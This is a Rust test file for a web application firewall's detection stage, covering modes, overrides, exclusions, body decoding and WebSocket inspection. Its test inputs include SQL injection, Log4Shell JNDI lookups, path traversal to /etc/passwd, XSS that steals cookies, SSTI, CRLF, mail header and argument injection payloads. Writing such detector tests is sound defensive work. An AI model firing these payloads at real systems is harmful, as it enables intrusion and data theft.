use super::*;
use crate::eval::{build, OwnedRequest, Place};
use crate::{Category, Detector, Hit, Input};
use palisade_core::Context;

struct Toy;

impl Detector for Toy {
    fn name(&self) -> &'static str {
        "sqli"
    }
    fn check(&self, input: &Input<'_>, level: Level) -> Option<Hit> {
        let i = input.decoded.find("' or 1=1")?;
        let confidence = if level == Level::Strict { 95 } else { 80 };
        Some(Hit { detector: "sqli", category: Category::Sqli, confidence, fragment: input.decoded[i..].to_string(), why: "tautology" })
    }
}

fn stage(settings: &Settings) -> DetectionStage {
    DetectionStage::with_engine(crate::Engine::with_detectors(vec![Box::new(Toy)], settings.engine_config()).unwrap(), settings)
}

#[test]
fn head_findings_block_with_reason() {
    let s = stage(&Settings::default());
    let req = build(Place::Query, "x' or 1=1 --").unwrap();
    let v = s.check_head(&req.view(), &mut Context::default());
    let Verdict::Block { status: None, reasons } = v else { panic!("{v:?}") };
    assert_eq!(reasons[0].code, "detect.sqli");
    assert_eq!(reasons[0].location.as_deref(), Some("query.v"));
    assert_eq!(reasons[0].detail.as_deref(), Some("sqli confidence 80 (tautology) via raw"));
    // The fragment is for logs and events, apart from the detail that clients see.
    assert_eq!(reasons[0].fragment.as_deref(), Some("' or 1=1 --"));
    assert_eq!(s.name(), "detection");
    assert!(s.wants_body());
}

#[test]
fn body_findings_in_the_body_phase_only() {
    let s = stage(&Settings::default());
    let req = build(Place::Json, "x' or 1=1").unwrap();
    assert!(s.check_head(&req.view(), &mut Context::default()).is_allow());
    assert!(matches!(s.check_body(&req.view(), &mut Context::default()), Verdict::Block { .. }));
}

#[test]
fn modes_and_path_overrides() {
    let mut settings = Settings { mode: Mode::Monitor, ..Settings::default() };
    settings.paths.push(PathOverride { prefix: "/admin".into(), mode: Some(Mode::Block), level: Some(Level::Strict), exclusions: Vec::new() });
    settings.paths.push(PathOverride { prefix: "/admin/open".into(), mode: Some(Mode::Off), level: None, exclusions: Vec::new() });
    let s = stage(&settings);
    let mut req = OwnedRequest::new(http::Method::GET, "/api");
    req.query = Some("q=x%27%20or%201%3D1".into());
    assert!(matches!(s.check_head(&req.view(), &mut Context::default()), Verdict::Monitor { .. }));
    for (path, blocked) in
        [("/admin", true), ("/admin/x", true), ("/x/../admin/y", true), ("/%61dmin/y", true), ("/administrator", false), ("/admin/open/z", false)]
    {
        req.path = path.into();
        // Path policies see the canonical path (the proxy computes it), attacks the raw one.
        let canonical = palisade_core::path::canonicalize(path, &Default::default()).unwrap();
        let view = palisade_core::RequestView { path: &canonical, ..req.view() };
        let v = s.check_head(&view, &mut Context::default());
        match (blocked, &v) {
            (true, Verdict::Block { reasons, .. }) => assert!(reasons[0].detail.as_deref().unwrap().contains("confidence 95"), "{path}: {v:?}"),
            (false, Verdict::Monitor { .. } | Verdict::Allow) => {}
            _ => panic!("{path}: {v:?}"),
        }
    }
    assert_eq!(s.policy("/admin/open"), (Mode::Off, Level::Balanced));
    let off = stage(&Settings { mode: Mode::Off, ..Settings::default() });
    assert!(!off.wants_body());
    assert!(off.check_head(&req.view(), &mut Context::default()).is_allow());
}

#[test]
fn limits_act_per_on_exceed() {
    let mut settings = Settings::default();
    settings.limits.max_values = 2;
    let mut req = OwnedRequest::new(http::Method::GET, "/a");
    req.query = Some("a=1&b=2&c=3".into());
    let v = stage(&settings).check_head(&req.view(), &mut Context::default());
    let Verdict::Block { reasons, .. } = v else { panic!("{v:?}") };
    assert_eq!(reasons[0].code, "detect.limit");
    settings.on_exceed = Mode::Monitor;
    assert!(matches!(stage(&settings).check_head(&req.view(), &mut Context::default()), Verdict::Monitor { .. }));
    settings.on_exceed = Mode::Off;
    assert!(stage(&settings).check_head(&req.view(), &mut Context::default()).is_allow());
}

#[test]
fn exclusions_and_rule_allows_from_the_context_are_honoured() {
    use palisade_core::Exclusion;
    let s = stage(&Settings::default());
    let req = build(Place::Query, "x' or 1=1 --").unwrap();
    let mut cx = Context::default();
    cx.exclusions.push(Exclusion { detector: Some("sqli".into()), location: Some("query.other".into()) });
    assert!(matches!(s.check_head(&req.view(), &mut cx), Verdict::Block { .. }), "an exclusion elsewhere changes nothing");
    cx.exclusions.push(Exclusion { detector: Some("xss".into()), location: Some("query.v".into()) });
    assert!(matches!(s.check_head(&req.view(), &mut cx), Verdict::Block { .. }), "an exclusion of another detector changes nothing");
    cx.exclusions.push(Exclusion { detector: Some("sqli".into()), location: Some("query.v".into()) });
    assert!(s.check_head(&req.view(), &mut cx).is_allow(), "the finding is excepted by detector and field");
    let mut cx = Context::default();
    cx.exclusions.push(Exclusion { detector: None, location: Some("query".into()) });
    assert!(s.check_head(&req.view(), &mut cx).is_allow(), "every detector excepted for the whole query");
    let cx = &mut Context { allowed_by: Some("trusted-scanner".into()), ..Context::default() };
    assert!(s.check_head(&req.view(), cx).is_allow(), "a rule allowed the request");
}

/// Excluded hits never count toward `max_findings`: a request with more excluded hits than
/// the budget, before a finding that is not excluded, is still blocked for that finding, with
/// path exclusions and with exclusions that user rules put in the context alike.
#[test]
fn excluded_hits_do_not_use_up_max_findings() {
    let mut settings = Settings { max_findings: 2, ..Settings::default() };
    settings.paths.push(PathOverride {
        prefix: "/cms".into(),
        mode: None,
        level: None,
        exclusions: vec![crate::engine::Exclusion { detector: "sqli".into(), location: "query.c*".into() }],
    });
    let s = stage(&settings);
    let mut excluded: Vec<String> = (0..5).map(|i| format!("c{i}=x%27%20or%201%3D1%20{i}")).collect();
    excluded.push("z=y%27%20or%201%3D1".into());
    let mut req = OwnedRequest::new(http::Method::GET, "/cms/page");
    req.query = Some(excluded.join("&"));
    let v = s.check_head(&req.view(), &mut Context::default());
    let Verdict::Block { reasons, .. } = &v else { panic!("{v:?}") };
    assert_eq!(reasons.iter().map(|r| r.location.as_deref().unwrap()).collect::<Vec<_>>(), ["query.z"]);
    // Without the last parameter, every hit is excluded.
    excluded.pop();
    req.query = Some(excluded.join("&"));
    assert!(s.check_head(&req.view(), &mut Context::default()).is_allow());

    // The same with exclusions that rules put in the context.
    let s = stage(&Settings { max_findings: 2, ..Settings::default() });
    let mut cx = Context::default();
    for i in 0..5 {
        cx.exclusions.push(palisade_core::Exclusion { detector: Some("sqli".into()), location: Some(format!("query.c{i}")) });
    }
    req.path = "/api".into();
    assert!(s.check_head(&req.view(), &mut cx).is_allow());
    req.query = Some(format!("{}&z=y%27%20or%201%3D1", excluded.join("&")));
    let v = s.check_head(&req.view(), &mut cx);
    assert!(matches!(&v, Verdict::Block { reasons, .. } if reasons[0].location.as_deref() == Some("query.z")), "{v:?}");
}

#[test]
fn operation_overrides_win_over_paths_and_bring_their_exclusions() {
    use crate::settings::OperationOverride;
    let mut settings = Settings::default();
    settings.paths.push(PathOverride { prefix: "/api".into(), mode: Some(Mode::Monitor), level: None, exclusions: Vec::new() });
    settings.operations.push(OperationOverride { operation: "search".into(), mode: Some(Mode::Block), level: Some(Level::Strict), exclusions: Vec::new() });
    settings.operations.push(OperationOverride { operation: "GET /api/free".into(), mode: Some(Mode::Off), level: None, exclusions: Vec::new() });
    settings.operations.push(OperationOverride {
        operation: "comment".into(),
        mode: None,
        level: None,
        exclusions: vec![crate::engine::Exclusion { detector: "sqli".into(), location: "query.q".into() }],
    });
    let s = stage(&settings);
    let mut req = OwnedRequest::new(http::Method::GET, "/api/x");
    req.query = Some("q=x%27%20or%201%3D1".into());
    let with_op = |op: Option<&str>| Context { operation: op.map(Into::into), ..Context::default() };
    // No operation: the path override (monitor).
    assert!(matches!(s.check_head(&req.view(), &mut with_op(None)), Verdict::Monitor { .. }));
    // The operation's mode and level win over the path's.
    let v = s.check_head(&req.view(), &mut with_op(Some("search")));
    assert!(matches!(&v, Verdict::Block { reasons, .. } if reasons[0].detail.as_deref().unwrap().contains("confidence 95")), "{v:?}");
    assert!(s.check_head(&req.view(), &mut with_op(Some("GET /api/free"))).is_allow());
    // An operation that is not overridden falls back to the path.
    assert!(matches!(s.check_head(&req.view(), &mut with_op(Some("other"))), Verdict::Monitor { .. }));
    // Operation exclusions: this detector on this field only.
    assert!(s.check_head(&req.view(), &mut with_op(Some("comment"))).is_allow());
    req.query = Some("other=x%27%20or%201%3D1".into());
    assert!(matches!(s.check_head(&req.view(), &mut with_op(Some("comment"))), Verdict::Monitor { .. }));
    let p = s.policy_for("/api/x", Some("search"));
    assert_eq!((p.mode, p.level), (Mode::Block, Level::Strict));
    // Path exclusions.
    let mut settings = Settings::default();
    settings.paths.push(PathOverride {
        prefix: "/cms".into(),
        mode: None,
        level: None,
        exclusions: vec![crate::engine::Exclusion { detector: "*".into(), location: "query.q".into() }],
    });
    let s = stage(&settings);
    req.query = Some("q=x%27%20or%201%3D1".into());
    req.path = "/cms/page".into();
    assert!(s.check_head(&req.view(), &mut Context::default()).is_allow());
    req.path = "/blog".into();
    assert!(matches!(s.check_head(&req.view(), &mut Context::default()), Verdict::Block { .. }));
    // An app that is off with an operation turned on still wants bodies.
    let off = stage(&Settings {
        mode: Mode::Off,
        operations: vec![OperationOverride { operation: "x".into(), mode: Some(Mode::Block), level: None, exclusions: Vec::new() }],
        ..Settings::default()
    });
    assert!(off.wants_body());
}

/// A request without a body gets `Allow` from `check_body` without the body phase: the same
/// verdict as the phase run in full (the oracle), in every mode, level and limit policy, on
/// heads with and without findings.
#[test]
fn empty_body_skips_the_phase_with_the_same_verdict() {
    for mode in [Mode::Block, Mode::Monitor, Mode::Off] {
        for on_exceed in [Mode::Block, Mode::Monitor, Mode::Off] {
            for level in [Level::Balanced, Level::Strict] {
                for max_values in [0, 1, 10_000] {
                    let settings =
                        Settings { mode, level, on_exceed, limits: crate::extract::Limits { max_values, ..Default::default() }, ..Settings::default() };
                    for s in [stage(&settings), DetectionStage::new(&settings).unwrap()] {
                        for place in Place::ALL {
                            let mut req = build(place, "x' or 1=1 --").unwrap();
                            req.body.clear();
                            let fast = s.check_body(&req.view(), &mut Context::default());
                            let full = s.judge(&req.view(), Phase::Body, &Context::default());
                            assert_eq!(fast, full, "{mode:?} {on_exceed:?} {level:?} {max_values} {place:?}");
                        }
                    }
                }
            }
        }
    }
}

#[test]
fn websocket_messages_are_judged_like_bodies_and_located_under_ws_message() {
    let s = stage(&Settings::default());
    let req = OwnedRequest::new(http::Method::GET, "/chat");
    let mut cx = Context::default();
    // A JSON message: each string is a value of its own, located by its path.
    let v = s.check_message(&req.view(), r#"{"user": {"name": "x' or 1=1 --"}, "n": 1}"#, &mut cx);
    let Verdict::Block { reasons, .. } = v else { panic!("{v:?}") };
    assert_eq!((reasons[0].code.as_ref(), reasons[0].location.as_deref()), ("detect.sqli", Some("ws.message/user/name")));
    // Text: one value, the message.
    let v = s.check_message(&req.view(), "hello x' or 1=1 --", &mut cx);
    let Verdict::Block { reasons, .. } = v else { panic!("{v:?}") };
    assert_eq!(reasons[0].location.as_deref(), Some("ws.message"));
    // Clean messages, the empty one and a message that only looks like JSON pass.
    for clean in ["hello", "", "{\"a\": \"b\"}", "[1, 2"] {
        assert!(s.check_message(&req.view(), clean, &mut cx).is_allow(), "{clean}");
    }
    // Exclusions name the message's locations.
    let mut cx = Context::default();
    cx.exclusions.push(palisade_core::Exclusion { detector: Some("sqli".into()), location: Some("ws.message/user".into()) });
    assert!(s.check_message(&req.view(), r#"{"user": {"name": "x' or 1=1 --"}}"#, &mut cx).is_allow());
    assert!(!s.check_message(&req.view(), r#"{"other": "x' or 1=1 --"}"#, &mut cx).is_allow());
}

#[test]
fn the_first_reason_is_the_strongest_finding() {
    // The built-in engine: a Log4j lookup in the User-Agent holds an `ldap:` URL (ssrf, 70)
    // and is a JNDI lookup (log4shell, 98); a weaker finding comes first in the request (a
    // loopback URL in the query, ssrf). The event is named by its first reason.
    let settings = Settings { level: Level::Strict, ..Settings::default() };
    let s = DetectionStage::new(&settings).unwrap();
    let mut req = OwnedRequest::new(http::Method::GET, "/api/items");
    req.query = Some("next=http%3A%2F%2Flocalhost%3A8080%2Fadmin".into());
    req.headers.insert(http::header::USER_AGENT, http::HeaderValue::from_static("${jndi:ldap://callback.example/a}"));
    let v = s.check_head(&req.view(), &mut Context::default());
    let Verdict::Block { reasons, .. } = v else { panic!("{v:?}") };
    let codes: Vec<&str> = reasons.iter().map(|r| &*r.code).collect();
    assert_eq!(codes[0], "detect.log4shell", "{codes:?}");
    assert!(codes.contains(&"detect.ssrf"), "{codes:?}");
    assert_eq!(reasons[0].location.as_deref(), Some("header.User-Agent"));
}

#[test]
fn equal_confidences_rank_by_specificity() {
    let f = |category, confidence| Finding {
        detector: "x",
        category,
        confidence,
        location: String::new(),
        field: crate::FieldKind::Header,
        fragment: String::new(),
        why: "",
        transforms: Default::default(),
    };
    assert!(strength(&f(Category::Log4Shell, 70)) > strength(&f(Category::Ssrf, 70)));
    assert!(strength(&f(Category::Ssrf, 90)) > strength(&f(Category::Log4Shell, 70)));
    assert!(strength(&f(Category::Sqli, 70)) > strength(&f(Category::Scanner, 70)));
    // Every category has its own rank.
    let mut ranks: Vec<u8> = Category::ALL.iter().map(|c| c.specificity()).collect();
    ranks.sort_unstable();
    ranks.dedup();
    assert_eq!(ranks.len(), Category::ALL.len());
}

#[test]
fn every_header_is_inspected_by_its_grammar() {
    let s = DetectionStage::new(&Settings::default()).unwrap();
    let with = |headers: &[(&'static str, &'static str)]| {
        let mut req = OwnedRequest::new(http::Method::GET, "/products/42");
        for (n, v) in headers {
            req.headers.append(http::HeaderName::from_static(n), http::HeaderValue::from_static(v));
        }
        s.check_head(&req.view(), &mut Context::default())
    };
    // A browser's headers, written for this test: allowed.
    let browser = [
        ("host", "shop.example.com"),
        ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"),
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
        ("accept-language", "fr-FR,fr;q=0.9,en;q=0.8"),
        ("accept-encoding", "gzip, deflate, br, zstd"),
        ("sec-ch-ua", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\""),
        ("sec-ch-ua-mobile", "?0"),
        ("sec-ch-ua-platform", "\"macOS\""),
        ("sec-fetch-site", "none"),
        ("referer", "https://shop.example.com/search?q=red+shoes"),
        ("cookie", "session=abc123; theme=dark"),
        ("if-none-match", "W/\"5e15153d-120f\""),
        ("x-requested-with", "XMLHttpRequest"),
    ];
    assert!(matches!(with(&browser), Verdict::Allow), "{:?}", with(&browser));
    // Payloads in headers the defaults did not name, by name as received.
    for (n, v, code) in [
        ("content-type", "${jndi:ldap://callback.example/a}", "detect.log4shell"),
        ("accept", "../../../../etc/passwd", "detect.path-traversal"),
        ("x-custom-route", "{{7*7}}${7*7}<%= 7*7 %>", "detect.ssti"),
        ("x-anything", "1' or '1'='1' -- ", "detect.sqli"),
    ] {
        let v = with(&[(n, v)]);
        let Verdict::Block { reasons, .. } = &v else { panic!("{n}: {v:?}") };
        assert_eq!(&*reasons[0].code, code, "{n}");
        assert_eq!(reasons[0].location.as_deref(), Some(&*format!("header.{n}")), "{n}");
    }
}

#[test]
fn zz_explore() {
    let s = DetectionStage::new(&Settings { level: Level::Strict, ..Settings::default() }).unwrap();
    for q in [
        "file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "file=%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd",
        "file=%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
        "file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        "a[b]=1",
        "a[<script>alert(1)</script>]=1",
        "user[$ne]=1",
        "a[b' or 1=1--]=1",
        "q=alert%3F.(1)",
        "q=document%5B%22cookie%22%5D",
        "q=-oProxyCommand%3Did",
        "q=--output%3D%2Ftmp%2Fx",
        "next=%2F%2Fevil.example",
        "next=%2F%5Cevil.example",
        "url=http%3A%2F%2F%5B%3A%3Affff%3A127.0.0.1%5D%2F",
        "q=sel%E2%80%8Bect%20*%20from%20users%20where%201%3D1%20union%20sel%E2%80%8Bect%201",
        "q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C%2Fscript%EF%BC%9E",
        "data=%7B%22a%22%3A%22%7B%5C%22b%5C%22%3A%5C%22%3Cscript%3Ealert(1)%3C%2Fscript%3E%5C%22%7D%22%7D",
        "mail=victim%40example.com%0D%0ARCPT%20TO%3A%3Cattacker%40evil.example%3E",
        "q=%27%20UN%E2%80%8BION%20SEL%E2%80%8BECT%201--",
    ] {
        let mut req = OwnedRequest::new(http::Method::GET, "/api/items");
        req.query = Some(q.into());
        let v = s.check_head(&req.view(), &mut Context::default());
        let r: Vec<String> = match &v {
            Verdict::Block { reasons, .. } => reasons.iter().map(|r| format!("{} {:?}", r.code, r.detail)).collect(),
            _ => vec![],
        };
        eprintln!("EXP {q} => {r:?}");
    }
    for body in [
        r#"{"a":"{\"b\":\"<script>alert(1)</script>\"}"}"#,
        r#"{"$set":{"plan":"pro"}}"#,
        r#"{"properties":{"$set":{"plan":"pro","$browser":"Chrome"}}}"#,
        r#"{"user":{"$ne":null}}"#,
        r#"{"code":"const App = () => <div onClick={() => setOpen(true)}>Hi</div>;"}"#,
        r#"{"html":"<p><a href=\"javascript:void(0)\">x</a></p>"}"#,
    ] {
        let mut req = OwnedRequest::new(http::Method::POST, "/api/items");
        req.headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static("application/json"));
        req.body = body.as_bytes().to_vec();
        let v = s.check_body(&req.view(), &mut Context::default());
        let r: Vec<String> = match &v {
            Verdict::Block { reasons, .. } => reasons.iter().map(|r| format!("{} {:?} {:?}", r.code, r.location, r.detail)).collect(),
            _ => vec![],
        };
        eprintln!("EXP {body} => {r:?}");
    }
}

#[test]
fn invisible_characters_do_not_split_keywords() {
    let s = DetectionStage::new(&Settings::default()).unwrap();
    for q in ["q=%27%20UN%E2%80%8BION%20SEL%E2%80%8BECT%20password%20FROM%20users--", "q=1%20%E2%80%8Cor%E2%80%8C%201%3D1%20UN%C2%ADION%20SEL%C2%ADECT%201"] {
        let mut req = OwnedRequest::new(http::Method::GET, "/api/items");
        req.query = Some(q.into());
        let v = s.check_head(&req.view(), &mut Context::default());
        let Verdict::Block { reasons, .. } = &v else { panic!("{q}: {v:?}") };
        assert!(reasons[0].detail.as_deref().is_some_and(|d| d.contains("invisible")), "{q}: {reasons:?}");
    }
}

#[test]
fn bodies_are_read_by_their_real_content() {
    use crate::extract::Skipped;
    use std::io::Write;
    let e = crate::Engine::new(crate::EngineConfig::default()).unwrap();
    let run = |ct: &'static str, enc: Option<&'static str>, body: Vec<u8>| {
        let mut req = OwnedRequest::new(http::Method::POST, "/api/events");
        req.headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static(ct));
        if let Some(enc) = enc {
            req.headers.insert(http::header::CONTENT_ENCODING, http::HeaderValue::from_static(enc));
        }
        req.body = body;
        let mut scratch = e.scratch();
        let mut report = Report::default();
        e.inspect_phase(&req.view(), Phase::Body, Level::Strict, &mut scratch, &mut report);
        report
    };
    let attack = br#"{"comment":"<script>alert(document.cookie)</script>"}"#.to_vec();
    let gzip = {
        let mut g = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        g.write_all(&attack).unwrap();
        g.finish().unwrap()
    };
    let zlib = {
        let mut g = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        g.write_all(&attack).unwrap();
        g.finish().unwrap()
    };
    // A declared gzip or deflate coding is decoded, then judged.
    for (enc, body) in [("gzip", gzip.clone()), ("deflate", zlib)] {
        let r = run("application/json", Some(enc), body);
        assert_eq!(r.findings.first().map(|f| f.category), Some(crate::Category::Xss), "{enc}: {r:?}");
        assert_eq!(r.counts.skipped, None, "{enc}");
    }
    // Another coding, or bytes that do not decompress: binary bytes are skipped with the
    // reason; text is judged as it is (a server that ignores the coding reads it so), so the
    // header cannot hide an attack.
    assert_eq!(run("application/json", Some("br"), gzip.clone()).counts.skipped, Some(Skipped::Encoding));
    assert_eq!(run("application/json", Some("gzip"), gzip[..gzip.len() / 2].iter().rev().copied().collect()).counts.skipped, Some(Skipped::Inflate));
    for enc in ["gzip", "br", "zstd"] {
        let r = run("application/json", Some(enc), attack.clone());
        assert_eq!((r.findings.first().map(|f| f.category), r.counts.skipped), (Some(crate::Category::Xss), None), "{enc}: {r:?}");
    }
    // Compressed bytes sent without saying so are binary, whatever the label.
    let r = run("application/json", None, gzip.clone());
    assert!(r.findings.is_empty() && r.counts.skipped == Some(Skipped::BinaryContent), "{r:?}");
    // Binary media types are not read as text, even when their bytes are ASCII.
    for ct in ["application/octet-stream", "application/x-protobuf", "application/grpc-web+proto", "image/png"] {
        let r = run(ct, None, b"\x0a\x05(|(uid=*))\x12\x03' or 1=1--".to_vec());
        assert!(r.findings.is_empty() && r.counts.skipped == Some(Skipped::BinaryType), "{ct}: {r:?}");
    }
    // Text stays text: the same attack in plain JSON is found, nothing skipped.
    let r = run("application/json", None, attack);
    assert!(!r.findings.is_empty() && r.counts.skipped.is_none());
    // A form body stays read whatever bytes precede its fields (lenient form parsers).
    let r = run("application/x-www-form-urlencoded", None, b"\x00\x01\x02\x03\x04&q=%27%20or%201%3D1--".to_vec());
    assert!(r.findings.iter().any(|f| f.category == crate::Category::Sqli), "{r:?}");
    // A multipart form keeps its text fields judged beside a binary file.
    let mp = b"--b\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\r\n--b\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n".to_vec();
    let r = run("multipart/form-data; boundary=b", None, mp);
    assert!(r.findings.iter().any(|f| f.category == crate::Category::Xss), "{r:?}");
}

/// A GraphQL request taken apart by the GraphQL stage: detection judges the values it was
/// given (argument literals, variables) in place of the body, located where they are.
#[test]
fn protocol_values_replace_the_body_and_the_named_query_parameters() {
    let s = stage(&Settings::default());
    let mut req = OwnedRequest::new(http::Method::POST, "/graphql");
    req.headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static("application/json"));
    // The query text holds the payload in a comment only: as prose the body is an attack.
    req.body = br#"{"query": "{ user(name: \"ann\") { id } } # x' or 1=1"}"#.to_vec();
    assert!(matches!(s.check_body(&req.view(), &mut Context::default()), Verdict::Block { .. }));
    let values = |v: &str| palisade_core::ProtocolValues {
        replaces_body: true,
        replaces_query: Vec::new(),
        values: vec![palisade_core::ProtocolValue { location: "graphql.query.user.name".into(), value: v.into(), key: false }],
    };
    let mut cx = Context { protocol_values: Some(std::sync::Arc::new(values("ann"))), ..Context::default() };
    assert!(s.check_body(&req.view(), &mut cx).is_allow());
    let mut cx = Context { protocol_values: Some(std::sync::Arc::new(values("x' or 1=1"))), ..Context::default() };
    let Verdict::Block { reasons, .. } = s.check_body(&req.view(), &mut cx) else { panic!() };
    assert_eq!(reasons[0].location.as_deref(), Some("graphql.query.user.name"));
    // GET: the named parameters are replaced, the others still inspected.
    let mut get = OwnedRequest::new(http::Method::GET, "/graphql");
    get.query = Some("query=%7B%20a%20%7D%20%23%20x%27%20or%201%3D1&q=fine".into());
    let head = palisade_core::ProtocolValues { replaces_body: false, replaces_query: vec!["query".into()], values: Vec::new() };
    let mut cx = Context { protocol_values: Some(std::sync::Arc::new(head.clone())), ..Context::default() };
    assert!(s.check_head(&get.view(), &mut cx).is_allow());
    get.query = Some("query=%7Ba%7D&q=x%27%20or%201%3D1".into());
    let mut cx = Context { protocol_values: Some(std::sync::Arc::new(head)), ..Context::default() };
    let Verdict::Block { reasons, .. } = s.check_head(&get.view(), &mut cx) else { panic!() };
    assert_eq!(reasons[0].location.as_deref(), Some("query.q"));
}

/// Under the default path policy encoded control bytes and `%5C` in a path parameter are data:
/// the canonical path keeps them encoded, so routing and path policies see one segment. Attack
/// detection reads the segment as sent, decoded: a NUL that truncates a file name, a CRLF and
/// a backslash traversal remain findings.
#[test]
fn encoded_control_bytes_and_backslashes_in_a_path_parameter_are_judged_decoded() {
    let balanced = DetectionStage::new(&Settings::default()).unwrap();
    let strict = DetectionStage::new(&Settings { level: Level::Strict, ..Settings::default() }).unwrap();
    let judge = |s: &DetectionStage, path: &str| {
        let req = OwnedRequest::new(http::Method::GET, path);
        let canonical = palisade_core::path::canonicalize(path, &Default::default()).unwrap();
        assert_eq!(canonical.matches('/').count(), 3, "{path}: {canonical}: one segment");
        let view = palisade_core::RequestView { path: &canonical, ..req.view() };
        match s.check_head(&view, &mut Context::default()) {
            Verdict::Block { reasons, .. } => {
                Some((reasons[0].code.to_string(), reasons[0].location.clone().unwrap_or_default(), reasons[0].fragment.clone().unwrap_or_default()))
            }
            _ => None,
        }
    };
    // A NUL truncating a file name: a finding (below the balanced threshold, as before), with the
    // NUL decoded away in what the detector read.
    let (code, loc, fragment) = judge(&strict, "/v1/files/shell.php%00.jpg").expect("strict flags a NUL truncation");
    assert_eq!((code.as_str(), loc.as_str(), fragment.as_str()), ("detect.lfi", "path[2]", "shell.php.jpg"));
    assert_eq!(judge(&balanced, "/v1/files/..%5C..%5Cboot.ini%00.txt").map(|r| r.0).as_deref(), Some("detect.path-traversal"));
    assert_eq!(judge(&balanced, "/v1/files/x%0D%0ASet-Cookie:%20a=b").map(|r| r.0).as_deref(), Some("detect.crlf"));
    // What a generator of valid strings sends passes.
    for path in ["/v1/files/abc%00def", "/v1/files/%01%1F%7F", "/v1/files/DOMAIN%5Cjsmith"] {
        assert_eq!(judge(&balanced, path), None, "{path}");
    }
}

/// Strings a schema stage settled in this very body are not inspected; the same text
/// elsewhere in the body, in another buffer, or in a WebSocket message is.
#[test]
fn settled_strings_of_the_body_are_not_inspected() {
    let s = stage(&Settings::default());
    let mut req = OwnedRequest::new(http::Method::POST, "/api/items");
    req.headers.insert(http::header::CONTENT_TYPE, "application/json".parse().unwrap());
    req.body = br#"{"' or 1=1":"' or 1=1","note":"' or 1=1"}"#.to_vec();
    // The key (2..10) and the first value (13..21).
    let settled = palisade_core::SettledStrings::new(&req.body, &[(2, 8), (13, 8)]);
    let mut cx = Context { settled: Some(settled.clone()), ..Context::default() };
    let Verdict::Block { reasons, .. } = s.check_body(&req.view(), &mut cx) else { panic!("the free string is inspected") };
    assert_eq!(reasons.iter().map(|r| r.location.as_deref().unwrap_or("")).collect::<Vec<_>>(), ["body/note"]);
    // Every string settled: nothing to inspect.
    cx.settled = Some(palisade_core::SettledStrings::new(&req.body, &[(2, 8), (13, 8), (24, 4), (31, 8)]));
    assert!(s.check_body(&req.view(), &mut cx).is_allow());
    // The same bytes in another buffer are judged in full.
    let copy = req.clone();
    assert!(!s.check_body(&copy.view(), &mut cx).is_allow());
    // A WebSocket message is never the body the spans were found on.
    let v = s.check_message(&req.view(), std::str::from_utf8(&req.body).unwrap(), &mut cx);
    assert!(!v.is_allow());
    // Without settled strings, all three are found.
    let Verdict::Block { reasons, .. } = s.check_body(&req.view(), &mut Context::default()) else { panic!() };
    assert_eq!(reasons.len(), 3, "{reasons:?}");
}
